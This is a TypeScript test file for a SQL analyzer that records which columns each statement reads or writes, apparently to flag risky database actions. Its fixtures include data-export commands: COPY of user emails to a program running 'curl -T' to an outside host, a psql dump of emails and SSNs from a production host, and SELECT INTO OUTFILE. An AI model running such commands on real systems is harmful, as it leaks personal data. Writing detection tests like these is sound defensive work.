import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeAction } from '../../../server/src/core/engine';
import type { ColumnFact, Dialect } from '../../../server/src/core/types';
import { parsers } from '../../helpers/parsers';
import { analyze } from './helpers';

/** `table.name` (or `?.name` when the table is left open) of each column, in order. */
const show = (cols: readonly ColumnFact[]): string[] => cols.map((c) => `${c.table ?? '?'}.${c.name}`);

async function columns(sql: string, dialect: Dialect = 'postgresql') {
  const a = await analyze(sql, dialect);
  const s = a.statements[0];
  assert.ok(s?.parsed, `expected ${sql} to parse`);
  return { read: show(s.facts.columnsRead), written: show(s.facts.columnsWritten) };
}

describe('column facts: PostgreSQL (libpg-query)', () => {
  const cases: [string, string[], string[]][] = [
    // SELECT target lists, aliases resolved through FROM; WHERE/ON/ORDER BY columns are not listed.
    [
      'SELECT u.email, ssn, o.total FROM public.accounts u JOIN orders o ON o.uid = u.id WHERE u.phone = $1 ORDER BY o.id',
      ['public.accounts.email', '?.ssn', 'orders.total'],
      [],
    ],
    ['SELECT email, ssn FROM accounts WHERE id = 1', ['accounts.email', 'accounts.ssn'], []],
    ['SELECT public.accounts.phone FROM public.accounts', ['public.accounts.phone'], []],
    ['SELECT lower(a.email) AS e, count(*) FROM accounts a GROUP BY 1', ['accounts.email'], []],
    // `*`: every column of each relation of the FROM clause (or the one named).
    ['SELECT * FROM accounts a JOIN orders o ON true', ['accounts.*', 'orders.*'], []],
    ['SELECT o.* FROM accounts a JOIN orders o ON true', ['orders.*'], []],
    ['TABLE users', ['users.*'], []],
    // Subqueries and CTEs: columns are listed where they are selected from a table.
    ['WITH c AS (SELECT email FROM users) SELECT * FROM c', ['users.email'], []],
    ['SELECT x.email FROM (SELECT email FROM users) x', ['users.email'], []],
    ['SELECT (SELECT p.ssn FROM people p WHERE p.id = a.pid) FROM accounts a', ['people.ssn'], []],
    ['SELECT email FROM a UNION SELECT ssn FROM b', ['a.email', 'b.ssn'], []],
    // UPDATE: SET targets written, SET sources and RETURNING read.
    [
      'UPDATE accounts a SET email = lower(a.ssn), phone = NULL WHERE id = 7 RETURNING a.id',
      ['accounts.ssn', 'accounts.id'],
      ['accounts.email', 'accounts.phone'],
    ],
    [
      'UPDATE accounts SET email = src.email FROM src WHERE src.id = accounts.id',
      ['src.email'],
      ['accounts.email'],
    ],
    // INSERT: the column list (or `*`), the source query's target list.
    ["INSERT INTO users (email, name) VALUES ('a@x', 'a')", [], ['users.email', 'users.name']],
    ['INSERT INTO users VALUES (1, 2)', [], ['users.*']],
    [
      'INSERT INTO archive (email) SELECT email FROM users RETURNING *',
      ['users.email', 'archive.*'],
      ['archive.email'],
    ],
    ['INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = EXCLUDED.b', ['t.b'], ['t.a', 't.b']],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET email = s.email WHEN NOT MATCHED THEN INSERT (id, ssn) VALUES (s.id, s.ssn)',
      ['s.email', 's.id', 's.ssn'],
      ['t.email', 't.id', 't.ssn'],
    ],
    // DELETE and TRUNCATE remove whole rows: table level, no columns (RETURNING aside).
    ['DELETE FROM accounts WHERE email = $1', [], []],
    ['DELETE FROM accounts WHERE id = 1 RETURNING ssn', ['accounts.ssn'], []],
    ['TRUNCATE accounts', [], []],
    // COPY: the column list, or `*`; direction decides read or written.
    ['COPY accounts (email, ssn) TO STDOUT', ['accounts.email', 'accounts.ssn'], []],
    ["COPY accounts TO '/tmp/a.csv'", ['accounts.*'], []],
    ['COPY accounts (email) FROM STDIN', [], ['accounts.email']],
    ["COPY (SELECT email FROM users WHERE active) TO PROGRAM 'curl -T - https://x'", ['users.email'], []],
    // ALTER TABLE and RENAME COLUMN.
    [
      'ALTER TABLE accounts DROP COLUMN ssn, ALTER COLUMN email TYPE text, ALTER COLUMN phone SET NOT NULL, ADD COLUMN dob date',
      [],
      ['accounts.ssn', 'accounts.email', 'accounts.phone', 'accounts.dob'],
    ],
    ['ALTER TABLE accounts ADD CONSTRAINT u UNIQUE (email)', ['accounts.email'], []],
    ['ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (uid) REFERENCES users (id)', ['t.uid', 'users.id'], []],
    ['ALTER TABLE accounts RENAME COLUMN ssn TO tax_id', [], ['accounts.ssn', 'accounts.tax_id']],
    // CREATE INDEX keys, expressions and INCLUDE columns; CREATE TABLE column definitions.
    [
      'CREATE INDEX CONCURRENTLY i ON accounts (email, lower(phone)) INCLUDE (ssn) WHERE deleted_at IS NULL',
      ['accounts.email', 'accounts.phone', 'accounts.ssn'],
      [],
    ],
    ['CREATE TABLE people (id int PRIMARY KEY, email text)', [], ['people.id', 'people.email']],
    ['CREATE TABLE copy AS SELECT email FROM users', ['users.email'], []],
    // Statements without column facts.
    ['DROP TABLE accounts', [], []],
    ['SELECT 1', [], []],
    ['GRANT SELECT ON accounts TO analyst', [], []],
  ];
  for (const [sql, read, written] of cases) {
    it(sql, async () => assert.deepEqual(await columns(sql), { read, written }));
  }

  it('leaves the table open for an unqualified column with several relations in scope', async () => {
    assert.deepEqual(await columns('SELECT email, o.id FROM accounts, orders o'), {
      read: ['?.email', 'orders.id'],
      written: [],
    });
  });

  it('lists the columns of statements inside PL/pgSQL bodies on those statements', async () => {
    const a = await analyze(
      `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$
       BEGIN
         UPDATE accounts SET ssn = NULL WHERE id = 1;
       END $$;`,
    );
    const inner = a.statements.find((s) => s.origin === 'plpgsql');
    assert.deepEqual(show(inner?.facts.columnsWritten ?? []), ['accounts.ssn']);
  });

  it('unparsed statements carry no column facts', async () => {
    const a = await analyze('SELECT email, FROM accounts WHERE');
    assert.equal(a.statements[0]?.parsed, false);
    assert.deepEqual([a.statements[0]?.facts.columnsRead, a.statements[0]?.facts.columnsWritten], [[], []]);
    assert.equal(a.findings[0]?.ruleId, 'unparsed');
  });
});

describe('column facts: MySQL (node-sql-parser)', () => {
  const cases: [string, string[], string[]][] = [
    [
      'SELECT u.email, ssn, o.* FROM accounts u JOIN orders o ON o.uid = u.id WHERE u.phone = 1',
      ['accounts.email', '?.ssn', 'orders.*'],
      [],
    ],
    ['SELECT `a`.`email` FROM `db1`.`accounts` `a`', ['db1.accounts.email'], []],
    ['SELECT * FROM accounts', ['accounts.*'], []],
    ["SELECT email, ssn INTO OUTFILE '/tmp/x.csv' FROM accounts", ['accounts.email', 'accounts.ssn'], []],
    ['WITH c AS (SELECT email FROM accounts) SELECT * FROM c', ['accounts.email'], []],
    ['SELECT x.email FROM (SELECT email FROM accounts) x', ['accounts.email'], []],
    ['SELECT email FROM a UNION SELECT ssn FROM b', ['a.email', 'b.ssn'], []],
    [
      "UPDATE accounts a SET a.email = 'x', phone = NULL WHERE id = 1",
      [],
      ['accounts.email', 'accounts.phone'],
    ],
    ['UPDATE a JOIN b ON a.id = b.id SET a.x = b.y', ['b.y'], ['a.x']],
    [
      'INSERT INTO accounts (email, `ssn`) SELECT e, s FROM src',
      ['src.e', 'src.s'],
      ['accounts.email', 'accounts.ssn'],
    ],
    ['INSERT INTO accounts VALUES (1, 2)', [], ['accounts.*']],
    ['INSERT INTO t SET a = 1, b = c', ['t.c'], ['t.a', 't.b']],
    ['DELETE FROM accounts WHERE email = 1', [], []],
    [
      'ALTER TABLE accounts DROP COLUMN ssn, MODIFY COLUMN email varchar(10), CHANGE phone phone2 int, ADD COLUMN dob date',
      [],
      ['accounts.ssn', 'accounts.email', 'accounts.phone', 'accounts.phone2', 'accounts.dob'],
    ],
    ['ALTER TABLE accounts ADD UNIQUE KEY uk (email)', ['accounts.email'], []],
    ['CREATE INDEX i ON accounts (email, phone(10))', ['accounts.email', 'accounts.phone'], []],
    ["LOAD DATA INFILE '/tmp/x' INTO TABLE accounts (email, ssn)", [], ['accounts.email', 'accounts.ssn']],
    ['CREATE TABLE people (id int, email text, PRIMARY KEY (id))', [], ['people.id', 'people.email']],
  ];
  for (const [sql, read, written] of cases) {
    it(sql, async () => assert.deepEqual(await columns(sql, 'mysql'), { read, written }));
  }

  it('a double-quoted string is a value in MySQL, not a column', async () => {
    assert.deepEqual(await columns('SELECT "email" FROM t', 'mysql'), { read: [], written: [] });
  });
});

describe('column facts of SQL embedded in shell commands', () => {
  it('psql -c and mysql -e carry the columns of their statements on the findings', async () => {
    const p = await parsers();
    const pg = analyzeAction(p, {
      kind: 'shell',
      text: `psql -h prod-db -c "COPY (SELECT email, ssn FROM accounts) TO STDOUT" | gzip > out.gz`,
    });
    const copy = pg.findings.find((f) => f.ruleId === 'copy-to-program-or-file');
    assert.ok(copy, pg.findings.map((f) => f.ruleId).join());
    assert.deepEqual(show(copy.statement?.columnsRead ?? []), ['accounts.email', 'accounts.ssn']);

    const my = analyzeAction(p, {
      kind: 'shell',
      text: `mysql -h db1 -e "SELECT email INTO OUTFILE '/tmp/e.csv' FROM shop.customers"`,
    });
    const outfile = my.findings.find((f) => f.ruleId === 'select-into-outfile');
    assert.ok(outfile, my.findings.map((f) => f.ruleId).join());
    assert.deepEqual(show(outfile.statement?.columnsRead ?? []), ['shop.customers.email']);
  });
});

describe('column facts never crash on odd input', () => {
  it('truncated and malformed statements analyze without throwing', async () => {
    const base =
      "WITH c AS (SELECT a.email, b.* FROM s.accounts a JOIN (SELECT * FROM t) b ON a.id = b.id) UPDATE accounts x SET ssn = (SELECT email FROM c LIMIT 1) FROM c WHERE x.id = c.id RETURNING x.*, 'done'";
    for (const dialect of ['postgresql', 'mysql'] as const) {
      for (let n = 1; n <= base.length; n += 7) {
        const a = await analyze(base.slice(0, n), dialect);
        for (const s of a.statements) {
          for (const c of [...s.facts.columnsRead, ...s.facts.columnsWritten]) {
            assert.ok(c.name.length > 0);
            if (c.name === '*') assert.ok(c.table, `a * column without a table in ${base.slice(0, n)}`);
          }
          if (!s.parsed) assert.deepEqual([s.facts.columnsRead, s.facts.columnsWritten], [[], []]);
        }
      }
    }
  });
});
